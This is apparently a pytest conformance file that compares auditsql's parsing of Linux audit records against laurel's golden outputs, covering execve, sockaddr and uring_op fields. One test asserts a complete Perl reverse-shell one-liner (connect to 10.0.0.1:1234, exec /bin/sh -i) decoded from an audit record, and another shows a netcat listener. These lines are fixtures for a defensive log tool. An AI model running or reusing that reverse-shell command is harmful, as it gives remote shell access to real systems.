"""laurel's golden outputs vs. auditsql's events (see tests/conformance/laurel.py for what is compared)."""

from __future__ import annotations

import json

import pytest

from tests.conformance.common import events_of
from tests.conformance.laurel import GOLDEN, LAUREL, compare_file, run, run_uringop

#: Golden values we knowingly differ from, per file, as the exact mismatch lines of ``compare_file``.
#: None: every compared laurel value matches (record-uringop.json included, see test_uringop_stale_golden).
KNOWN_DIFFERENCES: dict[str, set[str]] = {}

#: leaf values per golden file (the goldens are fixed, so these counts are too); "events" adds one per file
COMPARED = {
    "adjntpval": 42,
    "anom-promiscuous": 50,
    "avc-apparmor": 46,
    "bind-ipv4-bigendian": 32,
    "execve-long": 74,
    "execve": 73,
    "login": 51,
    "nscd": 50,
    "perl-reverse-shell": 95,
    "ptrace": 30,
    "syscall-key": 79,
    "syscall-nullkey": 97,
    "weblogic": 72,
}


@pytest.mark.parametrize("name", GOLDEN)
def test_golden_file(name: str) -> None:
    r = compare_file(name)
    assert r.compared == COMPARED[name]
    assert set(r.mismatches) == KNOWN_DIFFERENCES.get(name, set())
    assert r.matched == r.compared - len(KNOWN_DIFFERENCES.get(name, set()))


def test_totals() -> None:
    r = run()
    assert (r.source, r.compared, r.matched) == ("laurel", 791, 791)


def test_uringop_stale_golden() -> None:
    # record-uringop.json is not in laurel's golden test (stale upstream); it still matches: uring_op is a
    # number (the kernel writes `uring_op=%d`)
    r = run_uringop()
    assert (r.compared, r.matched, r.mismatches) == (18, 18, [])
    ev = events_of(LAUREL / "record-uringop.txt")[0]
    assert ev["URINGOP"][0]["uring_op"] == 18
    assert ev["URINGOP"][0]["key"] is None


def test_execve_long_split_argument() -> None:
    # a1_len=16384 (hex digits) split over a1[0]..a1[N] across several EXECVE records: 8192 bytes
    ev = events_of(LAUREL / "record-execve-long.txt")[0]
    argv = ev["EXECVE"]["ARGV"]
    assert ev["EXECVE"]["argc"] == 2
    assert argv[0] == "/bin/echo"
    assert len(argv[1]) == 8192
    assert argv[1] == "b" + "a" * 3730 + "cd" + "a" * 3744 + "ef" + "a" * 712 + "g"
    gold = json.loads((LAUREL / "record-execve-long.json").read_text().splitlines()[0])
    assert argv == gold["EXECVE"]["ARGV"]
    assert ev["summary"]["argv"] == argv
    assert "warnings" not in ev["summary"]


def test_bind_ipv4_bigendian_sockaddr() -> None:
    # ppc64 (arch=80000015): the family bytes of saddr=0002D903... are big-endian
    ev = events_of(LAUREL / "record-bind-ipv4-bigendian.txt")[0]
    assert ev["SOCKADDR"] == [{"saddr": "%00%02%d9%03%00%00%00%00%00%00%00%00%00%00%00%00"}]
    assert ev["summary"]["arch"] == "ppc64"
    assert ev["summary"]["syscall"] == "bind"
    assert ev["summary"]["sockaddr"] == {"family": "inet", "port": 55555, "addr": "0.0.0.0"}
    assert ev["PROCTITLE"] == {"ARGV": ["nc", "-l", "-p", "55555"]}


def test_execve_node_and_enrichment() -> None:
    ev = events_of(LAUREL / "record-execve.txt")[0]
    assert ev["ID"] == "1615114232.375:15558"
    assert ev["NODE"] == "work"
    assert ev["SYSCALL"]["ARCH"] == "x86_64"
    assert ev["SYSCALL"]["SYSCALL"] == "execve"
    assert ev["SYSCALL"]["AUID"] == "user"
    assert ev["SYSCALL"]["ARGV"] == [
        "0x63b29337fd18",
        "0x63b293387d58",
        "0x63b293375640",
        "0xfffffffffffff000",
    ]
    assert ev["PATH"][0]["mode"] == "0o100755"
    assert ev["PATH"][0]["cap_fp"] == "0x0"
    assert ev["PATH"][0]["OUID"] == "root"


def test_perl_reverse_shell_hex_argument() -> None:
    ev = events_of(LAUREL / "record-perl-reverse-shell.txt")[0]
    assert ev["EXECVE"]["argc"] == 3
    assert ev["EXECVE"]["ARGV"][:2] == ["perl", "-e"]
    assert ev["EXECVE"]["ARGV"][2] == (
        'use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
        'open(STDERR,">&S");exec("/bin/sh -i");};'
    )
